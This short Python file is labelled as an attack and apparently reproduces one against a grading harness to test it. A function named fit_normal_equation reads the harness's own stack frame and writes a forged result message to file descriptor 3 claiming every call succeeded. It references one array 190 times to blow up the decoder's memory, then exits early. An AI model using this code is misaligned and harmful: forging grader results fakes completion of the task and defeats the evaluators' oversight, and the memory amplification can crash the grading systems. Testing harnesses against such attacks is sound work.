"""Attack: a result whose one array is referenced 190 times per call, so that
a decoder loading a blob per reference holds 190 copies (here 190 x 400 KB;
the real attack used 24 MB blobs)."""

import io
import json
import os
import struct
import sys

import numpy as np


def fit_normal_equation(X, y):
    calls = len(sys._getframe(1).f_locals["job"]["calls"])  # the harness's own frame
    buffer = io.BytesIO()
    np.save(buffer, np.zeros(50_000), allow_pickle=False)
    blob = buffer.getvalue()
    value = {"seq": [{"array": 0}] * 190, "tuple": False}
    header = {"import_error": None, "calls": [{"ok": True, "value": value}] * calls}
    raw = json.dumps(dict(header, blobs=[len(blob)])).encode()
    os.write(3, b"GRD1" + struct.pack("<I", len(raw)) + raw + blob)
    os._exit(0)
